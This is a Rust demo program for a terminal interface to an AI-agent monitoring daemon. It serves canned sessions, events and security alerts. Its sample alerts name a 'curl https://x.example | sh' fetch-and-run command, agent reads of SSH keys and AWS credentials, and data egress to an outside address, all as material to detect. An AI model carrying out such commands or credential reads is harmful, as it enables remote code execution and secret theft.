//! The TUI on canned data, without a daemon: `cargo run -p tui --example demo`
//! (or `... --example demo -- /path/to/agentwatch.sock` against a daemon).
//!
//! An in-memory [`Backend`] answers every request from a small fixed world (two sessions, a few
//! alerts, one loss) and its live stream raises a new alert every second, so the views, keys and
//! live updates can be tried (and smoke-tested in tmux) anywhere.

use std::thread;
use std::time::Duration;

use serde_json::{Value, json};
use tui::{Backend, Options, Subscription};

const SESSION: &str = "00000000c0ffee01";

fn now_ns() -> i64 {
    agent_model::Timestamp::now().0
}

fn time(ns: i64) -> String {
    agent_model::Timestamp(ns).to_rfc3339()
}

fn alert(i: u64, t: i64) -> Value {
    let (rule, sev, summary) = match i % 3 {
        0 => (
            "secret-read",
            "high",
            format!("claude read ~/.ssh/id_rsa ({i})"),
        ),
        1 => (
            "curl-pipe-shell",
            "critical",
            "curl https://x.example | sh".to_string(),
        ),
        _ => (
            "egress-volume",
            "medium",
            "12 MiB sent to 203.0.113.7".to_string(),
        ),
    };
    json!({"id": format!("demo-{i}"), "time": time(t), "host": "devbox", "rule": rule,
           "severity": sev, "agent": {"name": "claude"}, "session": {"id": SESSION},
           "summary": summary, "count": 1, "first_time": time(t), "last_time": time(t)})
}

fn event(i: u64, t: i64, kind: &str, path: &str) -> Value {
    let mut e = json!({"id": format!("ev-{i}"), "time": time(t), "host": "devbox", "kind": kind,
        "agent": {"name": "claude"}, "session": {"id": SESSION},
        "process": {"pid": 4242, "tid": 4242, "start": time(t - 10_000_000_000), "exe": "/usr/bin/cat",
                    "comm": "cat", "uid": 1000, "gid": 1000}});
    match kind {
        "file.open" => e["file"] = json!({"path": path, "access": "read"}),
        "monitor.loss" => e["monitor"] = json!({"loss_kind": "file.open", "loss_count": 12}),
        _ => e["process"]["cmdline"] = json!(path),
    }
    e
}

struct Demo {
    start: i64,
}

impl Backend for Demo {
    fn request(&mut self, req: &Value) -> anyhow::Result<Value> {
        let s = self.start;
        let sec = 1_000_000_000;
        Ok(match req["op"].as_str().unwrap_or("") {
            "status" => json!({"ok": true, "host": "devbox", "uptime_s": (now_ns() - s) / sec,
                "events": {"file.open": 900, "process.exec": 40},
                "events_per_s": {"file.open": 20.0 + (now_ns() / sec % 7) as f64, "process.exec": 1.5},
                "losses": {"file.open": 12}, "sessions": [{"id": SESSION}],
                "store": {"events": 940, "alerts": 5, "index_bytes": 4_000_000, "lag": 0}}),
            "rules" => json!({"ok": true, "policy": {"source": "demo", "generation": 1},
                "rules": [{"id": "secret-read", "severity": "high", "enabled": true, "hits": 3,
                           "description": "an agent read a credential file", "kinds": ["file.open"]}]}),
            "alerts" => {
                json!({"ok": true, "hits": (0..5).map(|i| json!({"alert": alert(i, s + i as i64 * sec), "triage": {"state": "open"}})).collect::<Vec<_>>()})
            }
            "sessions" => json!({"ok": true, "sessions": [{"id": SESSION, "agent": "claude",
                "start": time(s - 60 * sec), "end": time(now_ns()), "events": 940, "alerts": 5,
                "root_exe": "/usr/bin/bash", "root_pid": 4200}]}),
            "session" => json!({"ok": true, "id": SESSION,
                "events": [event(1, s, "process.exec", "/usr/bin/bash -l"),
                           event(2, s + sec / 2, "file.open", "/home/dev/.ssh/id_rsa"),
                           event(3, s + 2 * sec, "monitor.loss", ""),
                           event(4, s + 3 * sec, "file.open", "/home/dev/.aws/credentials")],
                "alerts": (0..5).map(|i| json!({"alert": alert(i, s + i as i64 * sec), "triage": {"state": "open"}})).collect::<Vec<_>>(),
                "processes": [{"pid": 4200, "start": time(s), "exe": "/usr/bin/bash", "children": [1]},
                              {"pid": 4242, "start": time(s), "exe": "/usr/bin/cat", "children": []}],
                "roots": [0]}),
            "search" => {
                json!({"ok": true, "total": 2, "hits": [event(2, s, "file.open", "/home/dev/.ssh/id_rsa")],
                "aggregation": {"type": "terms", "field": "file.path", "buckets": [["/home/dev/.ssh/id_rsa", 7], ["/etc/hosts", 2]], "other": 0}})
            }
            "triage" => json!({"ok": true}),
            op => json!({"ok": false, "error": format!("unknown op `{op}`")}),
        })
    }

    fn subscribe(&mut self, _req: &Value) -> anyhow::Result<Option<Box<dyn Subscription>>> {
        Ok(Some(Box::new(Live { n: 5 })))
    }
}

struct Live {
    n: u64,
}

impl Subscription for Live {
    fn next(&mut self) -> anyhow::Result<Option<Value>> {
        thread::sleep(Duration::from_secs(1));
        self.n += 1;
        Ok(Some(json!({"alert": alert(self.n, now_ns())})))
    }
}

fn main() -> anyhow::Result<()> {
    // `demo SOCKET` talks to a real daemon socket instead.
    if let Some(path) = std::env::args_os().nth(1) {
        return tui::run(tui::SocketBackend::factory(path.into()), Options::default());
    }
    let start = now_ns() - 30_000_000_000;
    tui::run(
        Box::new(move || Ok(Box::new(Demo { start }) as Box<dyn Backend>)),
        Options::default(),
    )
}
